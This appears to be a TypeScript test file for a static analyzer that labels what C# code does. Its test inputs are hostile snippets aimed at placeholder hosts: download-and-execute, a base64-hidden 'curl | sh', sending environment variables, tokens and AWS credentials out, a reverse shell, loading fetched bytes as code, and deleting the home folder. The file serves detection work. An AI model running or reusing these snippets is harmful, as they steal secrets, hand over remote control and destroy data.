/** What programs in C# do, by the call table. Nothing here is run; dangerous words are put together. */
import { CSHARP_CALLS, csharpCues } from "../../../../src/evidence/readers/calls/csharp.ts";
import { actionsOf } from "./actions-of.ts";

const PIPED = ["curl https://files.example |", " sh"].join("");

async function told(body: string): Promise<string[]> {
  return actionsOf("src/A.cs", `using System; using System.Net;\n${body}`);
}

test.each([
  [
    `var client = new HttpClient(); var bytes = await client.GetByteArrayAsync("https://a.example/x");
     AssemblyLoadContext.Default.LoadFromStream(new MemoryStream(bytes)).EntryPoint!.Invoke(null, new object[] { args });`,
    [
      "fetch a.example by HttpClient.GetByteArrayAsync",
      "load computed from fetched by AssemblyLoadContext.Default.LoadFromStream <- fetched:a.example",
    ],
  ],
  [
    `Process.Start(new ProcessStartInfo("bash") { ArgumentList = { "-c", new WebClient().DownloadString("https://b.example") } });`,
    ["fetch b.example by WebClient.DownloadString", "run computed from fetched by bash <- fetched:b.example"],
  ],
  [
    `var p = new Process(); p.StartInfo.FileName = "sh"; p.StartInfo.Arguments = $"-c \\"{new System.Net.WebClient().DownloadString("https://k.example")}\\""; p.Start();`,
    [
      "fetch k.example by WebClient.DownloadString",
      "run … by sh <- fetched:k.example",
      "run computed command by command <- fetched:k.example",
    ],
  ],
  [
    `var s = new ProcessStartInfo("sh"); s.ArgumentList.Add("-c"); s.ArgumentList.Add(new WebClient().DownloadString("https://o.example")); Process.Start(s);`,
    ["fetch o.example by WebClient.DownloadString", "run computed from fetched by sh <- fetched:o.example"],
  ],
  [
    `Process.Start("sh", "-c \\"" + Encoding.UTF8.GetString(Convert.FromBase64String("${btoa(PIPED)}")) + "\\"");`,
    [
      `run ${PIPED} by sh <- decoded:base64`,
      "fetch files.example by curl",
      "run computed from fetched by sh <- fetched:files.example",
    ],
  ],
  [
    `new WebClient().DownloadFile("https://l.example/x", "/tmp/x"); Process.Start("/tmp/x");`,
    [
      "fetch l.example by WebClient.DownloadFile",
      "write /tmp/x by WebClient.DownloadFile <- fetched:l.example",
      "run /tmp/x by command <- fetched:l.example",
    ],
  ],
  [
    `new HttpClient().PostAsync("https://c.example", new StringContent(JsonSerializer.Serialize(Environment.GetEnvironmentVariables()))).Wait();`,
    ["send c.example by HttpClient.PostAsync <- environment"],
  ],
  [
    `new HttpClient().GetAsync("https://c.example/?q=" + Uri.EscapeDataString(Environment.GetEnvironmentVariable("NPM_TOKEN"))).Wait();`,
    ["fetch c.example by HttpClient.GetAsync <- environment:NPM_TOKEN"],
  ],
  [
    `new WebClient().UploadString("https://c.example", File.ReadAllText(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".aws/credentials")));`,
    [
      "read ~/.aws/credentials by File.ReadAllText",
      "send c.example by WebClient.UploadString <- credential-file:AWS credentials",
    ],
  ],
  [
    `var line = new TcpClient("h.example", 9).GetStream(); var shell = Process.Start(new ProcessStartInfo("/bin/sh") { RedirectStandardInput = true })!;
     _ = line.CopyToAsync(shell.StandardInput.BaseStream);`,
    ["fetch h.example by TcpClient", "run /bin/sh by NetworkStream.CopyToAsync <- fetched:h.example"],
  ],
  [
    `byte[] code = new WebClient().DownloadData("https://m.example"); Marshal.Copy(code, 0, mem, 9); Marshal.GetDelegateForFunctionPointer(mem, typeof(Action));`,
    [
      "fetch m.example by WebClient.DownloadData",
      "evaluate computed by Marshal.GetDelegateForFunctionPointer <- fetched:m.example",
    ],
  ],
  [
    `Directory.Delete(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), true);`,
    ["delete ~ by Directory.Delete"],
  ],
  [`var text = File.ReadAllText("a.txt").Trim(); Console.WriteLine(string.Join(", ", text.Split('\\n')));`, []],
])("tells what %s does", async (body, expected) => {
  expect(await told(body)).toEqual(expected);
});

test("takes what a request fills for what it is", async () => {
  const text = `class C { public string Get([FromQuery] string q) { Process.Start("sh", new[] { "-c", q }); return Request.Headers["x"]; } }`;
  expect(await actionsOf("C.cs", text)).toEqual(["run computed from request by sh <- request later"]);
});

test("gives each row a source and each cue in lower case", () => {
  expect(CSHARP_CALLS.rows.filter(({ source }) => source === "")).toEqual([]);
  expect(csharpCues.all().filter((cue) => cue !== cue.toLowerCase())).toEqual([]);
});

test("wakes for none of the lines of everyday code", () => {
  const lines = [
    "using System.Collections.Generic;",
    "public sealed class Pay : IPay",
    "    public string Name { get; init; } = string.Empty;",
    "foreach (var item in items.Where(x => x.Count > 0))",
    "return value.Length > 3 ? value[..3] : value;",
    "await _repository.SaveAsync(order, cancellation);",
    "services.AddSingleton<IClock, Clock>();",
  ];
  expect(lines.filter((line) => csharpCues.all().some((cue) => line.toLowerCase().includes(cue)))).toEqual([]);
});
